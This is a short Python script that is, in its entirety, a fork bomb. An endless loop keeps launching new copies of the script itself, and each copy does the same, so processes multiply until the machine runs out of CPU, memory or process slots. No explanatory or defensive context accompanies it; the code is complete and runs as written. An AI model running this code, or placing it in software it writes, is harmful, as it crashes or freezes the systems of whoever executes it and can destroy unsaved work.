import subprocess, sys
while 1:
    subprocess.Popen([sys.executable, __file__])
